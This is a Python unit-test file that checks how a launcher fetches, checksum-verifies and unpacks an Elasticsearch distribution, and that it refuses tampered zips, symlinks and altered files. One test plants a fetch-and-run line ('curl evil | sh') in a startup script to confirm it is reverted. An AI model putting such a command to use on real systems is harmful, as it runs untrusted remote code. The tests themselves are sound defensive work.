"""Fetching and unpacking the distribution, with stand-ins for Maven and small zips."""

from __future__ import annotations

import os
import shutil
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from engine import distribution
from engine.config import NodeConfig
from engine.errors import EngineError
from tests.unit.engine.support import write_zip

DIST_FILES = {
    "elasticsearch-9.5.4/bin/elasticsearch": ("#!/bin/bash\n", 0o755),
    "elasticsearch-9.5.4/config/jvm.options": ("-Xss1m\n", 0o660),
}


@pytest.fixture
def pin(monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], None]:
    """Pins the SHA-256 of a test zip for version 9.5.4, as the repository pins the real one."""

    def pin_zip(path: Path) -> None:
        monkeypatch.setitem(distribution.PINNED_SHA256, "9.5.4", distribution.file_sha256(path))

    return pin_zip


def test_fetch_unpacks_once_and_keeps_executable_bits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pin: Callable[[Path], None]
) -> None:
    cfg = NodeConfig(root=tmp_path)
    write_zip(cfg.zip_path, DIST_FILES)
    pin(cfg.zip_path)
    home = distribution.fetch(cfg.distribution)
    assert home == cfg.es_home
    assert os.access(home / "bin" / "elasticsearch", os.X_OK)
    assert stat.S_IMODE((home / "config" / "jvm.options").stat().st_mode) == 0o660
    assert sorted(p.name for p in tmp_path.iterdir()) == [cfg.es_home.name, cfg.zip_path.name]

    def unzip_again(*args: object) -> None:
        raise AssertionError("fetch unpacked an existing distribution again")

    monkeypatch.setattr(distribution, "_unzip", unzip_again)
    assert distribution.fetch(cfg.distribution) == home


def test_fetch_rejects_a_zip_without_the_distribution_and_leaves_nothing(
    tmp_path: Path, pin: Callable[[Path], None]
) -> None:
    cfg = NodeConfig(root=tmp_path)
    write_zip(cfg.zip_path, {"something-else/README": ("hi\n", 0o644)})
    pin(cfg.zip_path)
    with pytest.raises(EngineError, match="does not contain"):
        distribution.fetch(cfg.distribution)
    assert [p.name for p in tmp_path.iterdir()] == [cfg.zip_path.name]


def test_fetch_reports_a_corrupt_zip(tmp_path: Path) -> None:
    cfg = NodeConfig(root=tmp_path)
    cfg.zip_path.write_bytes(b"not a zip")
    with pytest.raises(EngineError, match="corrupt"):
        distribution.fetch(cfg.distribution)
    assert not cfg.es_home.exists()


def test_fetch_without_maven_says_how_to_get_the_zip(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(shutil, "which", lambda name: None)
    with pytest.raises(EngineError, match=r"Maven \(mvn\) is needed.*elasticsearch-9\.5\.4\.zip"):
        distribution.fetch(NodeConfig(root=tmp_path).distribution)


def test_fetch_downloads_the_zip_with_maven_when_it_is_missing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pin: Callable[[Path], None]
) -> None:
    cfg = NodeConfig(root=tmp_path / "cache")
    source = tmp_path / "from-maven.zip"
    write_zip(source, {"elasticsearch-9.5.4/bin/elasticsearch": ("#!/bin/bash\n", 0o755)})
    pin(source)
    fake_mvn = fake_mvn_copying(tmp_path, source)
    monkeypatch.setattr(shutil, "which", lambda name: str(fake_mvn) if name == "mvn" else None)
    assert distribution.fetch(cfg.distribution) == cfg.es_home
    assert cfg.zip_path.is_file()
    assert sorted(p.name for p in cfg.root.iterdir()) == [cfg.es_home.name, cfg.zip_path.name]


def test_a_failing_maven_download_reports_its_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake_mvn = tmp_path / "mvn"
    fake_mvn.write_text("#!/bin/sh\necho 'Could not find artifact' >&2\nexit 1\n")
    fake_mvn.chmod(0o755)
    monkeypatch.setattr(shutil, "which", lambda name: str(fake_mvn))
    cfg = NodeConfig(root=tmp_path / "cache")
    with pytest.raises(EngineError, match=r"(?s)could not download.*Could not find artifact"):
        distribution.fetch(cfg.distribution)
    assert [p.name for p in cfg.root.iterdir()] == []


def fake_mvn_copying(tmp_path: Path, source: Path) -> Path:
    """A stand-in for mvn that copies source to -DoutputDirectory, as dependency:copy does."""
    fake_mvn = tmp_path / "mvn"
    fake_mvn.write_text(
        "#!/bin/sh\n"
        'for arg; do case "$arg" in -DoutputDirectory=*) out="${arg#*=}";; esac; done\n'
        f'cp {source} "$out/elasticsearch-9.5.4.zip"\n'
    )
    fake_mvn.chmod(0o755)
    return fake_mvn


# The pinned checksum


def test_the_pinned_checksum_of_the_default_version_is_a_sha256() -> None:
    assert len(distribution.PINNED_SHA256[distribution.ES_VERSION]) == 64
    int(distribution.PINNED_SHA256[distribution.ES_VERSION], 16)


def test_a_tampered_zip_in_the_cache_is_refused_and_nothing_is_unpacked(
    tmp_path: Path, pin: Callable[[Path], None]
) -> None:
    cfg = NodeConfig(root=tmp_path)
    write_zip(cfg.zip_path, DIST_FILES)
    pin(cfg.zip_path)
    # Someone swaps one file of the archive for their own, keeping a valid zip.
    write_zip(
        cfg.zip_path, {**DIST_FILES, "elasticsearch-9.5.4/bin/elasticsearch": ("evil", 0o755)}
    )
    with pytest.raises(
        EngineError, match=r"tampered with: its SHA-256 is [0-9a-f]{64}, the pinned"
    ):
        distribution.fetch(cfg.distribution)
    assert not cfg.es_home.exists()
    assert [p.name for p in tmp_path.iterdir()] == [cfg.zip_path.name]


def test_a_download_that_does_not_match_the_pin_is_not_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = tmp_path / "from-maven.zip"
    write_zip(source, DIST_FILES)  # a valid zip, but not the pinned one
    fake_mvn = fake_mvn_copying(tmp_path, source)
    monkeypatch.setattr(shutil, "which", lambda name: str(fake_mvn) if name == "mvn" else None)
    cfg = NodeConfig(root=tmp_path / "cache")
    with pytest.raises(EngineError, match="tampered with"):
        distribution.fetch(cfg.distribution)
    assert list(cfg.root.iterdir()) == []


def test_a_version_without_a_pinned_checksum_is_refused_before_anything_is_fetched(
    tmp_path: Path,
) -> None:
    cfg = NodeConfig(version="9.4.0", root=tmp_path / "cache")
    with pytest.raises(EngineError, match=r"no SHA-256 is pinned for Elasticsearch 9\.4\.0"):
        distribution.fetch(cfg.distribution)
    assert not cfg.root.exists()


def test_a_zip_in_the_cache_that_is_a_symlink_is_not_followed(
    tmp_path: Path, pin: Callable[[Path], None]
) -> None:
    elsewhere = tmp_path / "elsewhere.zip"
    write_zip(elsewhere, DIST_FILES)
    pin(elsewhere)
    cfg = NodeConfig(root=tmp_path / "cache")
    cfg.root.mkdir()
    cfg.zip_path.symlink_to(elsewhere)
    with pytest.raises(EngineError, match="cannot read"):
        distribution.fetch(cfg.distribution)
    assert not cfg.es_home.exists()


# The unpacked tree is verified before every reuse


@pytest.fixture
def fetched(tmp_path: Path, pin: Callable[[Path], None]) -> NodeConfig:
    """A cache with a pinned test distribution, fetched once."""
    cfg = NodeConfig(root=tmp_path / "cache")
    cfg.root.mkdir()
    write_zip(cfg.zip_path, DIST_FILES)
    pin(cfg.zip_path)
    distribution.fetch(cfg.distribution)
    return cfg


def test_a_changed_file_in_the_unpacked_tree_is_unpacked_again(fetched: NodeConfig) -> None:
    script = fetched.es_home / "bin" / "elasticsearch"
    script.write_text("#!/bin/bash\ncurl evil | sh\n")
    distribution.fetch(fetched.distribution)
    assert script.read_text() == "#!/bin/bash\n"
    assert not any(p.name.startswith(".") for p in fetched.root.iterdir())  # no staging left


def test_a_file_added_to_the_unpacked_tree_is_unpacked_again(fetched: NodeConfig) -> None:
    planted = fetched.es_home / "lib" / "planted.jar"
    planted.parent.mkdir()
    planted.write_text("x")
    distribution.fetch(fetched.distribution)
    assert not planted.parent.exists()


def test_a_mode_change_in_the_unpacked_tree_is_unpacked_again(fetched: NodeConfig) -> None:
    options = fetched.es_home / "config" / "jvm.options"
    options.chmod(0o666)
    distribution.fetch(fetched.distribution)
    assert stat.S_IMODE(options.stat().st_mode) == 0o660


def test_a_tree_unpacked_by_an_older_launcher_without_a_marker_is_unpacked_again(
    fetched: NodeConfig,
) -> None:
    (fetched.es_home / distribution.MARKER_NAME).unlink()
    distribution.fetch(fetched.distribution)
    assert (fetched.es_home / distribution.MARKER_NAME).is_file()


def test_an_installed_plugin_does_not_count_as_a_change(
    fetched: NodeConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    plugin = fetched.es_home / "plugins" / "news-analysis"
    plugin.mkdir(parents=True)
    (plugin / "news-analysis.jar").write_text("jar")

    def unzip_again(*args: object) -> None:
        raise AssertionError("fetch unpacked an intact distribution again")

    monkeypatch.setattr(distribution, "_unzip", unzip_again)
    assert distribution.fetch(fetched.distribution) == fetched.es_home


def test_an_unpacked_tree_replaced_by_a_symlink_is_removed_not_followed(
    fetched: NodeConfig, tmp_path: Path
) -> None:
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "keep").write_text("mine")
    shutil.rmtree(fetched.es_home)
    fetched.es_home.symlink_to(decoy)
    distribution.fetch(fetched.distribution)
    assert not fetched.es_home.is_symlink()
    assert (decoy / "keep").read_text() == "mine"
